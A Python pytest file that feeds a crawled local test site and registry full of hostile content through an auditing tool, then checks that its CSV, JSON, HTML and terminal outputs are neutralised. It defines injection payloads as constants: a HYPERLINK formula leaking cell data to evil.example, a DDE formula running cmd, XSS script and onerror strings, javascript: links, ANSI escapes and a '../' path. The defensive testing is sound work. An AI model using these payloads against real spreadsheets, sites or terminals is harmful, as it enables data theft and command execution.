"""Hostile content from a crawled site, through every output the tool writes.

A Local Offer on 127.0.0.1 whose pages carry script tags, attribute breakouts, ``javascript:``
links, ANSI escapes and spreadsheet formulas (as markup and as text), audited twice under a
registry whose name, region and code are hostile too. Then every output is checked: each CSV
(results, summary, diff, the four exports) has no cell a spreadsheet would evaluate, each JSON file
parses, the HTML carries no live markup from the site, ``explain`` prints no raw control
characters, and scorecard file names are sanitised.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from auditor.cli import main
from reports.safety import FORMULA_TRIGGERS
from tests.reports.fixture_site import DR_TEXT
from tests.webserver import Reply, page, serve

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")'
DDE = "=cmd|' /C calc'!A0"
ANSI = "\x1b[2J\x1b[31mRED\x1b]0;pwned\x07"
HOSTILE_TEXT = (
    # As text (entities), so it survives parsing and reaches quotes verbatim.
    "&lt;script&gt;alert('quote')&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(2)&gt; "
)
HOSTILE_PAGE = (
    "<script>alert('live')</script>"
    '<p>"><img src=x onerror=alert(1)></p>'
    f"<h2>{FORMULA}</h2>"
    f"<p>{FORMULA} Our SEND disagreement resolution service is independent of the council. {HOSTILE_TEXT}</p>"
    f"<blockquote><p>{DDE} Mediation is voluntary: you can choose whether to take part. {ANSI}</p></blockquote>"
    '<p><a href="javascript:alert(3)">Disagreement resolution</a> and '
    '<a href=" JaVaScRiPt:alert(4)">mediation advice</a> and <a href="data:text/html,<script>alert(5)</script>">'
    "SENDIASS</a></p>" + DR_TEXT.replace("Brightwater Mediation", f"+Brightwater Mediation {ANSI}", 1)
)
NAME = '=HYPERLINK("http://evil.example","Council")'
CODE = "-E0<6>/../x"
REGION = "@SUM(1+1)"
LINKS = ["/advice/disagreement-resolution", "/about", "/contact"]
SCRIPT_MARKERS = ("alert(", "onerror")


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    root = tmp_path_factory.mktemp("hostile")
    state = {"dr": True}

    def dr() -> Reply:
        body = HOSTILE_PAGE if state["dr"] else f"<p>{FORMULA} {HOSTILE_TEXT} {ANSI} This page moved.</p>"
        return Reply(page(f"Disagreement resolution {HOSTILE_TEXT}", body, ["/"]))

    routes: dict[str, object] = {
        "/": Reply(page("SEND Local Offer", f"<p>{FORMULA} Welcome. {ANSI}</p>", LINKS)),
        "/advice/disagreement-resolution": dr,
        "/about": Reply(page("About", f"<p>{DDE}</p>", ["/"])),
        "/contact": Reply(page("Contact", "<p>Call 0808 157 0412.</p>", ["/"])),
    }
    config = root / "c.toml"
    config.write_text("[crawl]\ndelay_seconds = 0\n", encoding="utf-8")
    with serve(routes) as server:  # type: ignore[arg-type]
        registry = root / "registry.csv"
        with registry.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(["code", "name", "region", "local_offer_url", "notes"])
            writer.writerow([CODE, NAME, REGION, server.url("/"), f"{DDE} {ANSI}"])
        base = ["--registry", str(registry), "--config", str(config), "--db", str(root / "s.sqlite")]
        assert main(["audit", *base, "--out", str(root / "run1")]) == 0
        state["dr"] = False
        assert main(["audit", *base, "--out", str(root / "run2")]) == 0
    db = ["--db", str(root / "s.sqlite")]
    assert main(["diff", *db, "--out", str(root / "diff")]) == 0
    for fmt in ("csv", "json"):
        assert main(["export", *db, "--format", fmt, "--out", str(root / f"export-{fmt}")]) == 0
    yield root


def _csv_files(root: Path) -> list[Path]:
    """Every CSV the tool wrote (the registry is the test's own input)."""
    return sorted(p for p in root.rglob("*.csv") if p.name != "registry.csv")


def test_the_fixture_reaches_every_csv(outputs: Path) -> None:
    names = {p.relative_to(outputs).as_posix() for p in _csv_files(outputs)}
    expected = {"run1/results.csv", "run1/summary.csv", "run2/results.csv", "run2/summary.csv", "run2/diff.csv"}
    expected |= {f"export-csv/{t}.csv" for t in ("results", "evidence", "summary", "pages")}
    expected |= {"diff/diff.csv"}
    assert expected <= names
    # The hostile text really got into the outputs (else the checks below prove nothing).
    everything = "".join(p.read_text(encoding="utf-8") for p in _csv_files(outputs))
    for needle in ("HYPERLINK", "cmd|", "<script>alert('quote')", "\x1b[2J", "@SUM"):
        assert needle in everything, needle


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_cell_would_be_evaluated_by_a_spreadsheet(outputs: Path) -> None:
    for path in _csv_files(outputs):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell.lstrip(" ").startswith(FORMULA_TRIGGERS):
                        assert _is_number(cell), f"{path.name}: {cell!r}"


def test_every_json_output_parses_and_keeps_the_text_as_stored(outputs: Path) -> None:
    files = sorted(outputs.rglob("*.json"))
    assert {p.name for p in files} >= {"results.json", "evidence.json", "summary.json", "pages.json"}
    for path in files:
        json.loads(path.read_text(encoding="utf-8"))
    document = json.loads((outputs / "run1" / "results.json").read_text(encoding="utf-8"))
    assert document["authorities"][0]["name"] == NAME  # JSON holds values exactly; only CSV neutralises


def _html_files(root: Path) -> list[Path]:
    return sorted(root.rglob("*.html"))


def test_no_html_output_carries_live_markup_from_the_site(outputs: Path) -> None:
    files = _html_files(outputs)
    assert any(p.parent.name == "authorities" for p in files) and any(p.name == "diff.html" for p in files)
    for path in files:
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        for script in soup.find_all("script"):
            assert not any(m in script.get_text() for m in SCRIPT_MARKERS), path  # only our own script
        for tag in soup.find_all(True):
            for attr, value in tag.attrs.items():
                text = " ".join(value) if isinstance(value, list) else str(value)
                assert not attr.lower().startswith("on"), f"{path.name}: {tag.name} {attr}"
                if attr in ("href", "src", "action", "formaction"):
                    assert not re.match(r"\s*(javascript|data|vbscript):", text, re.I), f"{path.name}: {text}"
        assert soup.find("img", src="x") is None, path


def test_scorecard_file_names_are_sanitised(outputs: Path) -> None:
    for run in ("run1", "run2"):
        names = [p.name for p in (outputs / run / "authorities").iterdir()]
        assert names and all(re.fullmatch(r"[A-Za-z0-9_-]+\.html", n) for n in names), names
    assert not list(outputs.rglob("x.html"))  # "../x" never climbed out of authorities/


def test_explain_prints_no_raw_control_characters(outputs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from auditor.store import Store

    with Store.open(outputs / "s.sqlite") as store:
        first_run = store.runs()[0].run_id  # the run that saw the hostile page
    printed = []
    for check_id in ("drs_independent", "drs_voluntary", "drs_in_local_offer", "drs_provider_named", "drs_contact"):
        argv = ["explain", "--db", str(outputs / "s.sqlite"), "--run", first_run, "--", CODE, check_id]
        assert main(argv) == 0
        printed.append(capsys.readouterr().out)
    text = "".join(printed)
    assert "HYPERLINK" in text  # the hostile name is shown, made inert
    assert "\\x1b[2J" in text  # the escape the site sent, shown as text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text), repr(text)
